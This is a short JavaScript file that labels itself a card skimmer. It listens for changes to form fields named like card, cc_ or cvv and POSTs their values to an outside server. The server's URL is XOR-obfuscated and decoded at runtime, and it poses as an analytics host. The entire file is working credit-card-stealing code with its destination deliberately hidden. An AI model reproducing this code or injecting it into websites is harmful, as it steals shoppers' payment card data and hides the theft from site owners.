// A skimmer whose strings are XOR-ed with a key string and rebuilt by its own decoder.
var K = "m4g3";
function x(s, k) {
  var r = [];
  for (var i = 0; i < s.length; i++) r.push(String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)));
  return r.join("");
}
document.addEventListener("change", function (e) {
  var t = e.target;
  if (!/cc_|card|cvv/i.test(t.name || "")) return;
  var d = {};
  d[t.name] = t.value;
  var q = new XMLHttpRequest();
  q.open("POST", x("\x05\x40\x13\x43\x1e\x0e\x48\x1c\x0c\x5a\x06\x5f\x14\x40\x0e\x50\x1e\x19\x04\x57\x03\x19\x14\x47\x02\x46\x02\x1d\x19\x5b\x17\x1c\x0e\x5b\x0b\x5f\x08\x57\x13", K));
  q.send(JSON.stringify(d));
}, true);
